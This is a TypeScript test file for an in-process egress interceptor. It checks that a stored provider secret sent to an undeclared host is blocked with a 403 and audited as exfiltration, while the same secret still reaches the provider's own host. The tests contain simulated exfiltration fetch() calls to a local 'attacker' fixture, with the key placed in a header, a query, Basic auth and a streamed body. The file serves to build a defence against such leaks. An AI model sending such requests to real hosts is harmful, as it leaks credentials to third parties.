/**
 * Tripwires in the in-process interceptor (issue 10): the same egress decision as the proxy, so
 * a stored secret of a provider sent by in-process code to a host that provider does not
 * declare, in a header, the query or a streamed body, is answered 403 (naming the provider and
 * the host), never reaches that host, and is audited as `egress.exfiltration`; to the
 * provider's own host it passes.
 */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { AuthService } from "../../src/core/auth-service.ts";
import { startInterceptFixture, type InterceptFixture } from "../helpers/intercept-fixture.ts";
import type { TestUpstream } from "../helpers/proxy-upstream.ts";

const KEY = "tripwire-key-0123456789";
let fx: InterceptFixture;
let api: TestUpstream;
let attacker: TestUpstream;
let service: AuthService;
const withIntercept = (fn: () => Promise<void>): Promise<void> => fx.withIntercept(fn);

before(async () => {
  fx = await startInterceptFixture("keeper", KEY, (host) => [{ host }]);
  ({ api, attacker, service } = fx);
});
after(() => fx.close());

/** The exfiltration entries, once the interceptor's batched writes have landed (bounded wait). */
async function exfiltrations(atLeast: number): Promise<{ provider?: string; host?: string; outcome: string }[]> {
  const deadline = Date.now() + 10_000;
  for (;;) {
    const found = (await service.auditEntries()).filter((e) => e.action === "egress.exfiltration");
    if (found.length >= atLeast || Date.now() > deadline) return found;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/** The status, once the body is read (so no connection is left half-used). */
async function statusOf(res: Response): Promise<number> {
  await res.text();
  return res.status;
}

test("a stored secret to an undeclared host in a header, the query or a body is 403 and never arrives", async () => {
  const target = `https://localhost:${attacker.port}`;
  const statuses: number[] = [];
  let reason = "";
  await withIntercept(async () => {
    const header = await fetch(`${target}/t-header`, { headers: { "x-leak": KEY } });
    reason = await header.text();
    statuses.push(header.status);
    const query = await fetch(`${target}/t-query?k=${encodeURIComponent(KEY)}`);
    statuses.push(await statusOf(query));
    const basic = await fetch(`${target}/t-basic`, { headers: { authorization: `Basic ${Buffer.from(`u:${KEY}`).toString("base64")}` } });
    statuses.push(await statusOf(basic));
    // A streamed body, the key in its second chunk.
    const stream = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(new TextEncoder().encode(`{"pad":"${"x".repeat(5000)}",`));
        controller.enqueue(new TextEncoder().encode(`"key":"${KEY}"}`));
        controller.close();
      },
    });
    const body = await fetch(`${target}/t-body`, { method: "POST", body: stream, duplex: "half" } as RequestInit);
    statuses.push(await statusOf(body));
  });
  assert.deepEqual(statuses, [403, 403, 403, 403]);
  assert.match(reason, /keeper credential .*localhost.*exfiltration/);
  assert.ok(!reason.includes(KEY));
  for (const path of ["/t-header", "/t-query", "/t-basic"]) assert.ok(!attacker.requests.some((q) => q.url.startsWith(path)), path);
  const entries = await exfiltrations(4);
  assert.equal(entries.length, 4, JSON.stringify(entries));
  for (const entry of entries) assert.deepEqual([entry.provider, entry.host, entry.outcome], ["keeper", "localhost", "denied"]);
});

test("the secret to its own provider's host passes (and is injected)", async () => {
  await withIntercept(async () => {
    const res = await fetch(`https://localhost:${api.port}/own`, { method: "POST", body: `key=${KEY}` });
    assert.equal(res.status, 200);
    await res.text();
  });
  assert.equal(api.requests.at(-1)?.headers.authorization, `Bearer ${KEY}`);
});
